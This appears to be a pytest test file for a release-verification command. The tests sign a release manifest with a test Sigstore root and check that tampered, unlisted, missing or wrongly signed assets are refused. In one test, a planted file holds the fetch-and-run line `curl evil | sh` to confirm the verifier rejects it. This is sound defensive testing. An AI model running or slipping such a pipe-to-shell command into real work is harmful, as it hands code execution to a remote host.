"""A release anyone can verify: the publish step attaches exactly the assets of SHA256SUMS, and
`release verify` accepts a release made by `release` and signed (with a test root) as the
release workflow signs it, and refuses a tampered asset, a wrong identity or issuer, a missing
or unlisted file and a tampered manifest."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shlex
import shutil
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import rfc8785
import yaml
from click.testing import CliRunner
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from generator.cli import main
from generator.evidence import testroot
from generator.evidence.trustroot import load_trust_root
from generator.publish.release_verify import (
    GITHUB_ISSUER,
    SIGNATURE,
    expected_identity,
    parse_sums,
    verify_release,
)
from tests import evidence_fixtures as ef
from tests.conftest import REPO
from tests.test_release import git

VERSION = "v0.1.0"
REPOSITORY = "NVIDIA/aicr-catalog"
IDENTITY = expected_identity(REPOSITORY, VERSION)
SIGNED_AT = datetime(2026, 11, 1, 12, 0, tzinfo=UTC)


def sign_blob(
    authority: testroot.Authority,
    data: bytes,
    *,
    identity: str = IDENTITY,
    issuer: str = GITHUB_ISSUER,
    signed_at: datetime = SIGNED_AT,
) -> bytes:
    """A Sigstore v0.3 message-signature bundle over `data` with a hashedrekord v0.0.1 entry,
    shaped as `python -m sigstore sign --bundle` writes it, made offline with the test root."""
    integrated_time = int(signed_at.timestamp())
    leaf_key = ec.derive_private_key(
        int.from_bytes(hashlib.sha256(identity.encode() + data).digest(), "big") % (2**255) + 1,
        ec.SECP256R1(),
    )
    cert = testroot.issue_leaf(
        authority,
        leaf_key.public_key(),
        identity=identity,
        issuer=issuer,
        not_before=signed_at - timedelta(minutes=1),
        not_after=signed_at + timedelta(minutes=9),
        sct_time=signed_at - timedelta(minutes=1),
    )
    digest = hashlib.sha256(data).digest()
    signature = leaf_key.sign(data, ec.ECDSA(hashes.SHA256(), deterministic_signing=True))
    b64 = lambda raw: base64.b64encode(raw).decode()  # noqa: E731
    body: dict[str, Any] = {
        "apiVersion": "0.0.1",
        "kind": "hashedrekord",
        "spec": {
            "data": {"hash": {"algorithm": "sha256", "value": digest.hex()}},
            "signature": {
                "content": b64(signature),
                "publicKey": {"content": b64(cert.public_bytes(serialization.Encoding.PEM))},
            },
        },
    }
    canonical = rfc8785.dumps(body)
    log_index = int.from_bytes(hashlib.sha256(canonical).digest()[:4], "big")
    log_id = testroot.key_id(authority.rekor_key.public_key())
    root_hash = hashlib.sha256(b"\x00" + canonical).digest()
    promise = rfc8785.dumps(
        {
            "body": b64(canonical),
            "integratedTime": integrated_time,
            "logID": log_id.hex(),
            "logIndex": log_index,
        }
    )
    sig_alg = ec.ECDSA(hashes.SHA256(), deterministic_signing=True)
    bundle = {
        "mediaType": testroot.BUNDLE_MEDIA_TYPE,
        "verificationMaterial": {
            "certificate": {"rawBytes": b64(cert.public_bytes(serialization.Encoding.DER))},
            "tlogEntries": [
                {
                    "logIndex": str(log_index),
                    "logId": {"keyId": b64(log_id)},
                    "kindVersion": {"kind": "hashedrekord", "version": "0.0.1"},
                    "integratedTime": str(integrated_time),
                    "inclusionPromise": {
                        "signedEntryTimestamp": b64(authority.rekor_key.sign(promise, sig_alg))
                    },
                    "inclusionProof": {
                        "logIndex": "0",
                        "rootHash": b64(root_hash),
                        "treeSize": "1",
                        "hashes": [],
                        "checkpoint": {"envelope": testroot._checkpoint(authority, root_hash, 1)},
                    },
                    "canonicalizedBody": b64(canonical),
                }
            ],
        },
        "messageSignature": {
            "messageDigest": {"algorithm": "SHA2_256", "digest": b64(digest)},
            "signature": b64(signature),
        },
    }
    return (json.dumps(bundle, indent=2) + "\n").encode()


# ---------------------------------------------------------------- a release, made once


@pytest.fixture(scope="module")
def authority() -> testroot.Authority:
    return ef.make_authority("release")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`release --version v0.1.0` of a copy of this repository: the unsigned release directory."""
    base = tmp_path_factory.mktemp("release-verify")
    r = base / "repo"
    r.mkdir()
    for name in ("catalog", "evidence", "docs"):
        shutil.copytree(REPO / name, r / name)
    shutil.copy(REPO / "mkdocs.yml", r / "mkdocs.yml")
    git(r, "init", "-q", "-b", "main")
    git(r, "add", "-A")
    git(r, "commit", "-q", "-m", "base")
    git(r, "tag", VERSION)
    old = Path.cwd()
    os.chdir(r)
    try:
        res = CliRunner().invoke(main, ["release", "--version", VERSION, "-o", str(base / "dist")])
    finally:
        os.chdir(old)
    assert res.exit_code == 0, res.output
    return base / "dist"


def _workflow_steps() -> dict[str, dict[str, Any]]:
    doc = yaml.safe_load((REPO / ".github/workflows/release.yml").read_text())
    steps = doc["jobs"]["release"]["steps"]
    return {s.get("name", s.get("uses", "")): s for s in steps}


def _run_step(step: dict[str, Any], cwd: Path, env: dict[str, str]) -> None:
    """A `run:` step as the runner runs it: bash --noprofile --norc -eo pipefail, in its
    working-directory, with the step's env (expressions already substituted in `env`)."""
    script = cwd / ".step.sh"
    script.write_text(step["run"])
    workdir = cwd / step.get("working-directory", ".")
    proc = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
        cwd=workdir,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    script.unlink()
    assert proc.returncode == 0, f"{step.get('name')}: {proc.stderr}"


@pytest.fixture(scope="module")
def published(
    made: Path, authority: testroot.Authority, tmp_path_factory: pytest.TempPathFactory
) -> tuple[Path, list[str]]:
    """The workspace after the workflow's steps that follow signing, with `gh` recording the
    arguments it was given: (workspace, gh argv)."""
    ws = tmp_path_factory.mktemp("workspace")
    shutil.copytree(made, ws / "dist")
    (ws / ".github").mkdir()
    shutil.copy(REPO / ".github/release-notes-template.md", ws / ".github")
    manifest = (ws / "dist/release-manifest.json").read_bytes()
    (ws / "dist" / SIGNATURE).write_bytes(sign_blob(authority, manifest))
    stub = ws / "bin"
    stub.mkdir()
    (stub / "gh").write_text('#!/bin/bash\nprintf "%s\\0" "$@" > "$GH_ARGS"\n')
    (stub / "gh").chmod(0o755)
    env = {
        "PATH": f"{stub}:{os.environ['PATH']}",
        "HOME": str(ws),
        "GH_TOKEN": "test",
        "TAG": VERSION,
        "GITHUB_REPOSITORY": REPOSITORY,
        "GH_ARGS": str(ws / "gh-args"),
        "PYTHONPATH": str(REPO),
    }
    steps = _workflow_steps()
    names = list(steps)
    sign = names.index("sign the release manifest (Sigstore keyless)")
    assert (
        "--bundle dist/release-manifest.json.sigstore.json dist/release-manifest.json"
        in (steps[names[sign]]["run"])
    )
    shim = ws / ".venv/bin/aicr-catalog"  # the workflow's `make .venv` entry point
    shim.parent.mkdir(parents=True)
    shim.write_text(
        f"#!/bin/sh\nexec {shlex.quote(sys.executable)} -c "
        "'import sys; from generator.cli import main; sys.argv[0] = \"aicr-catalog\"; main()' "
        '"$@"\n'
    )
    shim.chmod(0o755)
    root = ef.write_root(authority, ws, "test-root.json")
    ran = []
    for name in names[sign + 1 :]:
        step = dict(steps[name])
        if "aicr-catalog release verify" in step.get("run", ""):
            # the workflow's own command line, with the test root instead of public-good
            step["run"] = step["run"].rstrip() + f" --trust-root {root}\n"
        _run_step(step, ws, env)
        ran.append(name)
    assert any("verify" in n for n in ran) and ran[-1] == "publish"
    argv = (ws / "gh-args").read_text().split("\0")[:-1]
    return ws, argv


def test_publish_attaches_every_asset_and_only_files_listed_in_sha256sums(
    published: tuple[Path, list[str]],
) -> None:
    ws, argv = published
    assert argv[:3] == ["release", "create", VERSION]
    rest = argv[3:]
    assets: list[str] = []
    i = 0
    while i < len(rest):  # options with a value, flags, then positional asset paths
        if rest[i] in ("--title", "--notes-file", "--target", "--notes"):
            i += 2
        elif rest[i].startswith("-"):
            i += 1
        else:
            assets.append(rest[i])
            i += 1
    assert len(assets) > 100
    names = [Path(a).name for a in assets]
    assert len(set(names)) == len(names), "asset names must be unique"
    sums, problems = parse_sums((ws / "dist/SHA256SUMS").read_text())
    assert problems == []
    for a in assets:
        p = ws / a
        assert p.exists() and p.is_file() and not p.is_symlink(), a
        if p.name != "SHA256SUMS":
            assert p.name in sums, f"{a} is attached but not listed in SHA256SUMS"
            assert hashlib.sha256(p.read_bytes()).hexdigest() == sums[p.name]
    assert set(sums) | {"SHA256SUMS"} == set(names), "SHA256SUMS lists exactly the attached assets"
    for needed in ("release-manifest.json", SIGNATURE, "SHA256SUMS", "CHANGELOG.md"):
        assert needed in names
    assert any(n.endswith("-nvl72-2304-flux.tar.gz") for n in names)
    notes = (ws / argv[argv.index("--notes-file") + 1]).read_text()
    assert f"release verify DIR --version {VERSION} --repository {REPOSITORY}" in notes
    assert IDENTITY in notes and "@VERSION@" not in notes


# ---------------------------------------------------------------- release verify


@pytest.fixture
def release_dir(published: tuple[Path, list[str]], tmp_path: Path) -> Path:
    d = tmp_path / "download"
    shutil.copytree(published[0] / "dist", d)
    return d


@pytest.fixture(scope="module")
def root_file(authority: testroot.Authority, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return ef.write_root(authority, tmp_path_factory.mktemp("root"))


def verify(d: Path, root_file: Path, *extra: str) -> tuple[int, str]:
    res = CliRunner().invoke(
        main, ["release", "verify", str(d), "--trust-root", str(root_file), *extra]
    )
    return res.exit_code, res.output


def test_verifies_a_release_made_by_release(release_dir: Path, root_file: Path) -> None:
    code, out = verify(release_dir, root_file)
    assert code == 0, out
    assert f"release {VERSION}" in out and f"manifest signed by {IDENTITY}" in out
    code, out = verify(release_dir, root_file, "--version", VERSION, "--repository", REPOSITORY)
    assert code == 0, out


def test_refuses_a_tampered_asset(release_dir: Path, root_file: Path) -> None:
    victim = sorted(release_dir.glob("*-helm.tar.gz"))[0]
    victim.write_bytes(victim.read_bytes() + b"\0")
    code, out = verify(release_dir, root_file)
    assert code == 1
    assert f"{victim.name}: $: sha256 " in out and "the asset was altered [release.tampered]" in out


def test_refuses_an_asset_rewritten_with_its_checksum_line(
    release_dir: Path, root_file: Path
) -> None:
    """SHA256SUMS is not signed; the manifest is, and it records every archive's digest."""
    victim = sorted(release_dir.glob("*-flux.tar.gz"))[0]
    victim.write_bytes(b"evil")
    sums = release_dir / "SHA256SUMS"
    lines = [
        f"{hashlib.sha256(b'evil').hexdigest()}  {victim.name}" if ln.endswith(victim.name) else ln
        for ln in sums.read_text().splitlines()
    ]
    sums.write_text("\n".join(lines) + "\n")
    code, out = verify(release_dir, root_file)
    assert code == 1
    assert f"{victim.name}: $: sha256 " in out and "not the" in out
    assert "the signed manifest records [release.tampered]" in out


def test_refuses_a_tampered_manifest(release_dir: Path, root_file: Path) -> None:
    m = release_dir / "release-manifest.json"
    doc = json.loads(m.read_text())
    doc["commit"] = "0" * 40
    m.write_text(json.dumps(doc, indent=2, sort_keys=True) + "\n")
    sums = release_dir / "SHA256SUMS"
    digest = hashlib.sha256(m.read_bytes()).hexdigest()
    sums.write_text(
        "".join(
            f"{digest}  release-manifest.json\n"
            if ln.endswith("  release-manifest.json")
            else ln + "\n"
            for ln in sums.read_text().splitlines()
        )
    )
    code, out = verify(release_dir, root_file)
    assert code == 1
    assert "the manifest's signature does not verify" in out and "[release.signature]" in out


@pytest.mark.parametrize(
    ("identity", "issuer"),
    [
        (expected_identity("someone/fork", VERSION), GITHUB_ISSUER),  # another repository
        (IDENTITY.replace("release.yml", "pr.yml"), GITHUB_ISSUER),  # another workflow
        (expected_identity(REPOSITORY, "v9.9.9"), GITHUB_ISSUER),  # another tag
        (IDENTITY.replace("refs/tags/v0.1.0", "refs/heads/main"), GITHUB_ISSUER),  # a branch
        (IDENTITY, "https://accounts.google.com"),  # another issuer
    ],
)
def test_refuses_a_wrong_identity_or_issuer(
    release_dir: Path,
    root_file: Path,
    authority: testroot.Authority,
    identity: str,
    issuer: str,
) -> None:
    manifest = (release_dir / "release-manifest.json").read_bytes()
    (release_dir / SIGNATURE).write_bytes(
        sign_blob(authority, manifest, identity=identity, issuer=issuer)
    )
    sums = release_dir / "SHA256SUMS"
    digest = hashlib.sha256((release_dir / SIGNATURE).read_bytes()).hexdigest()
    sums.write_text(
        "".join(
            f"{digest}  {SIGNATURE}\n" if ln.endswith(f"  {SIGNATURE}") else ln + "\n"
            for ln in sums.read_text().splitlines()
        )
    )
    code, out = verify(release_dir, root_file)
    assert code == 1, out
    assert f"does not verify for {IDENTITY} (issuer {GITHUB_ISSUER}" in out


def test_refuses_another_trust_root(release_dir: Path, tmp_path: Path) -> None:
    other = ef.write_root(ef.make_authority("someone-else"), tmp_path)
    code, out = verify(release_dir, other)
    assert code == 1 and "[release.signature]" in out


def test_missing_unlisted_and_linked_files(release_dir: Path, root_file: Path) -> None:
    gone = sorted(release_dir.glob("*-argocd.tar.gz"))[0]
    gone.unlink()
    code, out = verify(release_dir, root_file)
    assert code == 1 and f"{gone.name}: $: listed in SHA256SUMS but missing" in out
    code, out = verify(release_dir, root_file, "--allow-missing")
    assert code == 0, out
    (release_dir / "extra.sh").write_text("curl evil | sh\n")
    code, out = verify(release_dir, root_file, "--allow-missing")
    assert code == 1 and "extra.sh: $: not listed in SHA256SUMS" in out
    (release_dir / "extra.sh").unlink()
    (release_dir / gone.name).symlink_to(sorted(release_dir.glob("*-helm.tar.gz"))[0])
    code, out = verify(release_dir, root_file, "--allow-missing")
    assert code == 1 and "is a symbolic link" in out
    (release_dir / gone.name).unlink()
    os.mkfifo(release_dir / gone.name)  # a FIFO must not hang the check
    code, out = verify(release_dir, root_file, "--allow-missing")
    assert code == 1 and "is not a regular file" in out


def test_manifest_and_signature_are_always_required(release_dir: Path, root_file: Path) -> None:
    (release_dir / SIGNATURE).unlink()
    code, out = verify(release_dir, root_file, "--allow-missing")
    assert code == 1 and f"{SIGNATURE}: $: listed in SHA256SUMS but missing" in out


def test_version_mismatch_and_usage_errors(release_dir: Path, root_file: Path) -> None:
    code, out = verify(release_dir, root_file, "--version", "v0.2.0")
    assert code == 1 and "is the manifest of v0.1.0, not of v0.2.0" in out
    code, out = verify(release_dir, root_file, "--version", "0.1")
    assert code == 2
    code, out = verify(release_dir / "nope", root_file)
    assert code == 2
    code, out = verify(release_dir, root_file, "--trust-root", "demo")
    assert code == 2 and "refuses the demo trust root" in out


def test_sums_parser_locates_bad_lines() -> None:
    sums, problems = parse_sums(
        f"{'a' * 64}  ok.tar.gz\n{'b' * 64}  sub/dir.tar.gz\nnonsense\n{'c' * 64}  ok.tar.gz\n"
    )
    assert sums == {"ok.tar.gz": "a" * 64}
    assert [(d.line, d.rule) for d in problems] == [
        (2, "release.sums"),
        (3, "release.sums"),
        (4, "release.sums"),
    ]


def test_library_api_reports_what_it_checked(release_dir: Path, root_file: Path) -> None:
    report = verify_release(release_dir, load_trust_root(str(root_file)))
    assert report.ok and report.version == VERSION and report.identity == IDENTITY
    assert "release-manifest.json" in report.verified_assets
    assert SIGNATURE in report.verified_assets


@pytest.mark.parametrize("doc", [b"{}\n", b"[]\n", b"not json"])
def test_an_empty_or_malformed_manifest_is_refused(release_dir: Path, doc: bytes) -> None:
    (release_dir / "release-manifest.json").write_bytes(doc)
    lines = [
        ln
        for ln in (release_dir / "SHA256SUMS").read_text().splitlines()
        if not ln.endswith("  release-manifest.json")
    ]
    lines.append(f"{hashlib.sha256(doc).hexdigest()}  release-manifest.json")
    (release_dir / "SHA256SUMS").write_text("\n".join(lines) + "\n")
    report = verify_release(
        release_dir, load_trust_root(str(REPO / "catalog/trust/demo/trusted_root.json"))
    )
    rules = {(d.path, d.rule) for d in report.problems}
    assert not report.ok
    assert ("release-manifest.json", "release.manifest") in rules
    assert ("release-manifest.json.sigstore.json", "release.signature") in rules
